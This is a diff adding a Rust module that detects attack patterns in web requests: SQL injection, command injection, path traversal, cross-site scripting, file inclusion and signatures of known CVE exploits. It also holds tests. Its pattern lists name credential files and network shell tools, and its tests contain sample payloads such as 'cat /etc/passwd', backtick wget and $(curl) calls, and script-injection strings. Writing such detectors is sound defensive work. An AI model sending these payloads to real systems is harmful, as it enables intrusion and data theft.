@@ -1,0 +1,509 @@
+//! Which forms of attack does a text hold?
+//!
+//! Each form is a shape that no honest client needs, with the weight that it carries alone. Written from the descriptions of OWASP and of the
+//! CVEs, not from anybody's rules. Texts come as `super::text::plain` leaves them. Refuses to call single quotes, percent signs, long
+//! queries or the words `select` and `script` by themselves anything.
+
+use super::text::around;
+
+/// Families of attacks.
+#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
+pub(super) enum Class {
+    Exploit,
+    Sql,
+    Command,
+    Traversal,
+    Script,
+    Inclusion,
+}
+
+impl Class {
+    /// As a reason, and in sentences.
+    pub(super) fn name(self) -> &'static str {
+        match self {
+            Self::Exploit => "known_exploit",
+            Self::Sql => "sql_injection",
+            Self::Command => "command_injection",
+            Self::Traversal => "path_traversal",
+            Self::Script => "cross_site_scripting",
+            Self::Inclusion => "file_inclusion",
+        }
+    }
+
+    pub(super) fn words(self) -> &'static str {
+        match self {
+            Self::Exploit => "a known exploit",
+            Self::Sql => "SQL injection",
+            Self::Command => "command injection",
+            Self::Traversal => "path traversal",
+            Self::Script => "cross-site scripting",
+            Self::Inclusion => "file inclusion",
+        }
+    }
+}
+
+/// One form that was seen.
+#[derive(Clone, PartialEq, Debug)]
+pub(super) struct Seen {
+    pub(super) class: Class,
+    /// What it is called.
+    pub(super) form: &'static str,
+    pub(super) weight: f64,
+    /// The place in its context, decoded.
+    pub(super) shown: String,
+}
+
+/// Where a text stood. Bodies hold prose, markup and code of honest users, so shapes there must be clearer.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub(super) enum Place {
+    Target,
+    Header,
+    Body,
+}
+
+/// Exploits of products that are known by a piece of their request (lower case, decoded): all of these, which.
+const EXPLOITS: &[(&[&str], &str)] = &[
+    (&["/eval-stdin.php"], "PHPUnit, CVE-2017-9841"),
+    (&["invokefunction", "call_user_func_array"], "ThinkPHP, CVE-2018-20062"),
+    (&["%{(#"], "Struts OGNL"),
+    (&["ognl.ognlcontext"], "Struts OGNL"),
+    (&["class.module.classloader"], "Spring4Shell, CVE-2022-22965"),
+    (&["t(java.lang.runtime)"], "Spring expression"),
+    (&["getruntime().exec("], "Java expression"),
+    (&["/gponform/diag_form"], "GPON routers, CVE-2018-10561"),
+    (&["setup.cgi", "todo=syscmd"], "Netgear setup.cgi"),
+    (&["/tmui/login.jsp/..;/"], "F5 BIG-IP, CVE-2020-5902"),
+    (&["/vpn/../vpns/"], "Citrix ADC, CVE-2019-19781"),
+    (&["autodiscover.json?@"], "Exchange ProxyShell, CVE-2021-34473"),
+    (&["/ctrlt/deviceupgrade_1"], "Huawei HG532, CVE-2017-17215"),
+    (&["/shell?cd /tmp"], "MVPower recorders"),
+    (&["allow_url_include", "auto_prepend_file"], "PHP-CGI, CVE-2012-1823"),
+    (&["/wls-wsat/coordinatorporttype"], "WebLogic, CVE-2017-10271"),
+    (&["/invoker/jmxinvokerservlet"], "JBoss invoker"),
+    (&["widgetconfig[code]"], "vBulletin, CVE-2019-16759"),
+    (&["/cgi-bin/luci/;stok=", "country", "$("], "TP-Link, CVE-2023-1389"),
+    (&["/boaform/admin/formping", ";"], "Boa routers"),
+    (&["#post_render", "#markup"], "Drupalgeddon, CVE-2018-7600"),
+    (&["/_ignition/execute-solution", "viewfile"], "Laravel Ignition, CVE-2021-3129"),
+    (&["/hnap1", "gethnapsettings/", "`"], "D-Link HNAP"),
+    (&["/remote/fgt_lang?lang=/.."], "Fortinet, CVE-2018-13379"),
+    (&["/dana-na/", "/../"], "Pulse Secure, CVE-2019-11510"),
+    (&["/_search", "script_fields", "java.lang"], "Elasticsearch, CVE-2015-1427"),
+    (&["executeshellcommand", "scx_operatingsystem"], "OMIGOD, CVE-2021-38647"),
+    (&["/winnt/system32/cmd.exe"], "IIS of 2001 (Nimda)"),
+    (&["/windows/system32/cmd.exe"], "IIS, cmd.exe"),
+    (&["root.exe?/c"], "Code Red II"),
+];
+
+/// Pieces of SQL that an application's own clients do not send, with their weights.
+const SQL: &[(&str, f64)] = &[
+    ("union select", 0.8),
+    ("union all select", 0.85),
+    ("union distinct select", 0.85),
+    ("information_schema", 0.6),
+    ("waitfor delay", 0.8),
+    ("pg_sleep(", 0.8),
+    ("benchmark(", 0.5),
+    ("extractvalue(", 0.7),
+    ("updatexml(", 0.7),
+    ("load_file(", 0.6),
+    ("into outfile", 0.6),
+    ("into dumpfile", 0.7),
+    ("xp_cmdshell", 0.8),
+    ("group_concat(", 0.5),
+    ("concat(0x", 0.6),
+    ("select @@", 0.6),
+    ("procedure analyse(", 0.7),
+    ("utl_inaddr.", 0.7),
+    ("; drop table", 0.7),
+    ("';drop table", 0.8),
+    ("' order by ", 0.6),
+    ("' having ", 0.5),
+    ("(select ", 0.35),
+    ("sleep(", 0.35),
+    (" rlike (", 0.5),
+];
+
+/// Files that attackers read first.
+const SECRETS: &[&str] = &[
+    "etc/passwd",
+    "etc/shadow",
+    "/win.ini",
+    "\\win.ini",
+    "boot.ini",
+    "proc/self/",
+    "system32/",
+    "web-inf/web.xml",
+    ".ssh/id_",
+    ".aws/credentials",
+];
+
+/// Ways to write `../` that no client needs.
+const HIDDEN_CLIMBS: &[&str] = &[
+    "%2e%2e", "..%2f", "..%5c", "%252e", "%c0%ae", "%c0%af", ".%2e", "%2e.", "..%255c", "..%252f", "/..;/",
+    "%%32%65",
+];
+
+/// Wrappers of PHP and absolute files as values.
+const WRAPPERS: &[(&str, f64)] = &[
+    ("php://filter", 0.8),
+    ("php://input", 0.8),
+    ("expect://", 0.7),
+    ("=file:///etc", 0.8),
+    ("=file:///c:", 0.7),
+    ("phar://", 0.6),
+    ("=data://text/plain", 0.6),
+];
+
+/// Commands that mean something alone, and those that need an argument.
+const ALONE: &[&str] =
+    &["id", "whoami", "uname", "ifconfig", "ipconfig", "pwd", "netstat", "ls", "dir", "ps", "reboot"];
+const WITH_ARGUMENT: &[&str] = &[
+    "cat",
+    "wget",
+    "curl",
+    "ping",
+    "nc",
+    "ncat",
+    "bash",
+    "sh",
+    "rm",
+    "chmod",
+    "nslookup",
+    "powershell",
+    "cmd",
+    "sleep",
+    "python",
+    "python3",
+    "perl",
+    "php",
+    "tftp",
+    "busybox",
+    "cd",
+    "cp",
+    "type",
+    "certutil",
+    "uname",
+    "ls",
+    "dir",
+    "id",
+    "echo",
+    "telnetd",
+    "ps",
+    "tail",
+    "head",
+];
+
+/// All forms in a text. `raw` is the same in lower case before decoding.
+pub(super) fn inspect(raw: &str, text: &str, place: Place, out: &mut Vec<Seen>) {
+    let mut see = |class, form, weight: f64, at: usize| {
+        // Prose about attacks, and code, are in bodies of honest users.
+        let weight = if place == Place::Body { weight * 0.85 } else { weight };
+        out.push(Seen { class, form, weight, shown: around(text, at).to_owned() });
+    };
+    for (parts, name) in EXPLOITS {
+        let at = parts.first().and_then(|p| text.find(p));
+        if let Some(at) = at.filter(|_| parts.iter().all(|p| text.contains(p))) {
+            see(Class::Exploit, name, 0.85, at);
+        }
+    }
+    if text.contains("/bin/sh")
+        && (raw.contains("/.%2e/") || raw.contains("/%2e%2e/") || raw.contains("%%32%65"))
+    {
+        see(Class::Exploit, "Apache, CVE-2021-41773", 0.9, 0);
+    }
+    for (needle, weight) in SQL {
+        if let Some(at) = text.find(needle).filter(|at| starts_word(text, *at, needle)) {
+            see(Class::Sql, needle, *weight, at);
+        }
+    }
+    if let Some((at, weight)) = tautology(text) {
+        see(Class::Sql, "a condition that is always true or false", weight, at);
+    }
+    let end = text.trim_end();
+    if (end.ends_with("--") || end.ends_with("-- -") || end.ends_with("'#")) && text.contains('\'') {
+        see(Class::Sql, "a quote and a comment that ends the statement", 0.55, text.find('\'').unwrap_or(0));
+    }
+    climbs(raw, text, place, &mut see);
+    for (needle, weight) in WRAPPERS {
+        if let Some(at) = text.find(needle) {
+            see(Class::Inclusion, needle, *weight, at);
+        }
+    }
+    if let Some((at, weight)) = command(text) {
+        see(Class::Command, "a command behind a separator", weight, at);
+    }
+    for (needle, weight) in [
+        ("/dev/tcp/", 0.8),
+        ("${ifs}", 0.8),
+        ("cmd.exe /c", 0.6),
+        ("cmd.exe?/c", 0.8),
+        ("powershell -e", 0.6),
+    ] {
+        if let Some(at) = text.find(needle) {
+            see(Class::Command, needle, weight, at);
+        }
+    }
+    script(text, place, &mut see);
+}
+
+/// Not within a longer word (`mybenchmark(`); needles that begin with a mark are.
+fn starts_word(text: &str, at: usize, needle: &str) -> bool {
+    let letter = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
+    !letter(needle.as_bytes().first()) || at == 0 || !letter(text.as_bytes().get(at - 1))
+}
+
+fn climbs(raw: &str, text: &str, place: Place, see: &mut impl FnMut(Class, &'static str, f64, usize)) {
+    let first = text.find("../").or_else(|| text.find("..\\"));
+    let count = text.matches("../").count() + text.matches("..\\").count();
+    let hidden = HIDDEN_CLIMBS.iter().any(|h| raw.contains(h));
+    let secret = SECRETS.iter().find_map(|s| text.find(s).map(|at| (*s, at)));
+    match (secret, first) {
+        (Some((name, at)), Some(_)) => see(Class::Traversal, name, 0.85, at),
+        (Some((name, at)), None)
+            if place == Place::Target && text.get(..at).is_some_and(|t| t.contains('=')) =>
+        {
+            see(Class::Traversal, name, 0.6, at);
+        }
+        (_, Some(at)) if hidden && count >= 2 => see(Class::Traversal, "hidden dots that climb", 0.7, at),
+        (_, Some(at)) if count >= 3 => {
+            // Broken links of honest pages climb in the path, not in a value.
+            let in_value = text.get(..at).is_some_and(|t| t.contains('?'));
+            see(Class::Traversal, "dots that climb", if in_value { 0.6 } else { 0.4 }, at);
+        }
+        _ => {}
+    }
+}
+
+/// `or 1=1`, `' and 'a'='a`: a comparison of two constants behind `or` or `and`. Its place and weight.
+fn tautology(text: &str) -> Option<(usize, f64)> {
+    for word in ["or", "and", "||", "&&"] {
+        for (at, _) in text.match_indices(word) {
+            let before = text.get(..at).unwrap_or("");
+            let after = text.get(at + word.len()..).unwrap_or("");
+            let bounded = |c: Option<char>| c.is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_');
+            let symbol = !word.starts_with(|c: char| c.is_ascii_alphabetic());
+            if !symbol && !(bounded(before.chars().next_back()) && bounded(after.chars().next())) {
+                continue;
+            }
+            let quoted = before.trim_end().ends_with(['\'', '"', ')']);
+            let Some((a, rest)) = constant(after) else { continue };
+            let rest = rest.trim_start();
+            let Some(rest) = ["=", "<>", "<", ">", "like "].iter().find_map(|op| rest.strip_prefix(op))
+            else {
+                continue;
+            };
+            let Some((b, _)) = constant(rest) else { continue };
+            let numbers = a.bytes().all(|b| b.is_ascii_digit()) && b.bytes().all(|b| b.is_ascii_digit());
+            if a == b && (quoted || !symbol) || numbers && (quoted || !symbol) {
+                return Some((at, if quoted { 0.8 } else { 0.6 }));
+            }
+        }
+    }
+    None
+}
+
+/// A number, or a quoted word; and what follows.
+fn constant(text: &str) -> Option<(&str, &str)> {
+    let text = text.trim_start_matches([' ', '(']);
+    let quote = text.chars().next().filter(|c| matches!(c, '\'' | '"'));
+    let body = quote.map_or(text, |q| text.strip_prefix(q).unwrap_or(text));
+    let len = body.bytes().take_while(|b| b.is_ascii_alphanumeric()).count();
+    let (word, rest) = body.split_at_checked(len)?;
+    let is_number = !word.is_empty() && word.bytes().all(|b| b.is_ascii_digit());
+    // The last quote is often left to the statement that is broken into.
+    let rest = rest.strip_prefix(['\'', '"']).unwrap_or(rest);
+    (quote.is_some() || is_number).then_some((word, rest))
+}
+
+/// A shell's command behind `;`, `|`, `&&`, a backtick or `$(`. Its place and weight.
+fn command(text: &str) -> Option<(usize, f64)> {
+    for separator in [";", "|", "&&", "`", "$(", "\n"] {
+        for (at, _) in text.match_indices(separator) {
+            let after = text.get(at + separator.len()..).unwrap_or("").trim_start_matches([' ', '|', '&']);
+            let len = after.bytes().take_while(|b| b.is_ascii_alphanumeric() || b"/._-".contains(b)).count();
+            let (path, rest) = after.split_at_checked(len).unwrap_or((after, ""));
+            let name = path.rsplit('/').next().unwrap_or(path).trim_end_matches(".exe");
+            let argument = rest.trim_start_matches(' ');
+            let spaced = argument.len() < rest.len();
+            let next = argument.chars().next();
+            let ends = rest.is_empty()
+                || matches!(rest.chars().next(), Some(';' | '|' | '&' | '`' | ')' | '\'' | '"'));
+            if ALONE.contains(&name)
+                && (ends || argument.is_empty())
+                && (separator != ";" || path.len() > 2 || ends)
+            {
+                return Some((at, 0.65));
+            }
+            let telling = next.is_some_and(|c| matches!(c, '/' | '-' | '.' | '$' | '%' | '0'..='9'))
+                || argument.starts_with("http");
+            if WITH_ARGUMENT.contains(&name) && spaced && telling {
+                return Some((at, 0.75));
+            }
+        }
+    }
+    None
+}
+
+/// What handlers are named after, behind `on`: the whole name or its beginning.
+const EVENTS: &[&str] = &[
+    "error",
+    "load",
+    "click",
+    "mouse",
+    "focus",
+    "toggle",
+    "start",
+    "begin",
+    "animation",
+    "transition",
+    "pointer",
+    "key",
+    "submit",
+    "blur",
+    "change",
+    "input",
+    "scroll",
+    "wheel",
+    "resize",
+    "unload",
+    "drag",
+    "hashchange",
+    "message",
+    "page",
+    "copy",
+    "paste",
+    "dblclick",
+];
+
+fn script(text: &str, place: Place, see: &mut impl FnMut(Class, &'static str, f64, usize)) {
+    let acts = [
+        "alert(",
+        "prompt(",
+        "confirm(",
+        "document.cookie",
+        "eval(",
+        "fromcharcode",
+        "document.location",
+        "alert`",
+    ];
+    let acts = acts.iter().any(|a| text.contains(a));
+    // Editors and mail send markup in bodies: there it must act, too.
+    if place == Place::Body && !acts {
+        return;
+    }
+    if let Some(at) = text.find("<script") {
+        see(Class::Script, "<script", if acts { 0.85 } else { 0.6 }, at);
+    }
+    if let Some(at) = text.find("javascript:").filter(|_| acts) {
+        see(Class::Script, "javascript: that acts", 0.6, at);
+    }
+    for (at, _) in text.match_indices('<') {
+        let tag = text.get(at + 1..).unwrap_or("");
+        let tag = tag.split('>').next().unwrap_or(tag);
+        if !tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
+            continue;
+        }
+        let handles = |sep: &str| {
+            tag.match_indices(sep).any(|(i, _)| {
+                let name = tag.get(i + sep.len()..).unwrap_or("");
+                let len = name.bytes().take_while(u8::is_ascii_lowercase).count();
+                let event = name.get(..len).unwrap_or("");
+                EVENTS.iter().any(|e| event.starts_with(e))
+                    && name.get(len..).is_some_and(|r| r.trim_start().starts_with('='))
+            })
+        };
+        if [" on", "/on", "\"on", "'on"].iter().any(|s| handles(s)) {
+            see(Class::Script, "a tag with a handler", if acts { 0.8 } else { 0.6 }, at);
+            return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::text::plain;
+    use super::*;
+
+    fn classes(target: &str) -> Vec<Class> {
+        let mut seen = Vec::new();
+        let raw = target.to_ascii_lowercase();
+        inspect(&raw, &plain(target.as_bytes()), Place::Target, &mut seen);
+        let mut doubt = std::collections::BTreeMap::new();
+        for s in seen {
+            *doubt.entry(s.class).or_insert(1.0) *= 1.0 - s.weight;
+        }
+        doubt.into_iter().filter(|(_, d)| *d <= 0.5).map(|(c, _)| c).collect()
+    }
+
+    #[test]
+    fn attacks_are_seen() {
+        use Class::*;
+        for (target, class) in [
+            (
+                "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit",
+                Sql,
+            ),
+            ("/a?id=1%27%20or%20%271%27=%271", Sql),
+            ("/a?id=1%20AND%205948=5948", Sql),
+            ("/a?id=1/**/UNION/**/ALL/**/SELECT/**/1", Sql),
+            ("/a?user=admin%27--%20", Sql),
+            ("/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", Sql),
+            ("/a?host=127.0.0.1;cat%20/etc/passwd", Command),
+            ("/a?host=127.0.0.1|id", Command),
+            ("/a?x=`wget%20http://10.0.0.1/x`", Command),
+            ("/a?x=$(curl%20http://h)", Command),
+            ("/a?f=../../../../etc/passwd", Traversal),
+            ("/a?f=/etc/passwd", Traversal),
+            ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Traversal),
+            ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Exploit),
+            ("/a/..%255c..%255cwinnt/x", Traversal),
+            ("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", Exploit),
+            ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", Script),
+            ("/a?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Script),
+            ("/a?page=php://filter/convert.base64-encode/resource=index", Inclusion),
+            ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Exploit),
+        ] {
+            assert!(classes(target).contains(&class), "{target}: {:?}", classes(target));
+        }
+    }
+
+    #[test]
+    fn an_honest_web_is_not() {
+        for target in [
+            "/",
+            "/search?q=it%27s+100%25+%22sure%22+and+cheap+or+free",
+            "/search?q=select+a+gift+from+the+list",
+            "/search?q=rock+and+roll+or+1+more",
+            "/search?q=union+station+select+hotels",
+            "/fonts/css?family=Open+Sans:400|Roboto|Lato;display=swap",
+            "/page;jsessionid=ABCDEF?id=5;lang=en;ls=1",
+            "/odata/Products?$filter=Name%20eq%20%27Milk%27%20and%20Price%20gt%205&$select=Name,ID",
+            "/a/../b/../c.css",
+            "/pixel?u=https%3A%2F%2Fa.example%2F%3Fx%3D%257B%2522k%2522%3A%2522v%2522%257D&t=(none)|(not%20set)|direct",
+            "/wiki/Sleep_(disambiguation)",
+            "/q?sql=benchmark+results&x=<b>bold</b>",
+            "/api?json={%22a%22:[1,2],%22s%22:%22a=b;c=d%22}",
+            "/maps?d=M10,20L30,40;Z&size=1|2|3&and=1&or=2",
+            "/track?ua=Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)",
+            "/q?s=AT%26T+%26%26+more&if=a==b",
+            "/news?title=Cat+%7C+Dog+%7C+Head+of+state",
+            "/search?q=onload=+handlers+a<b+online=1",
+        ] {
+            assert_eq!(classes(target), [], "{target}");
+        }
+    }
+
+    #[test]
+    fn markup_and_prose_in_bodies_are_not() {
+        for body in [
+            "text=<p>Hello <a href='x'>it's</a> me; find me at home | call</p><script src=\"a.js\"></script>",
+            "{\"note\":\"SELECT name FROM people; then rest\"}",
+            "comment=use rm carefully; echo is nice",
+        ] {
+            let mut seen = Vec::new();
+            inspect(&body.to_ascii_lowercase(), &plain(body.as_bytes()), Place::Body, &mut seen);
+            assert!(seen.iter().all(|s| s.weight < 0.5), "{body}: {seen:?}");
+        }
+    }
+}
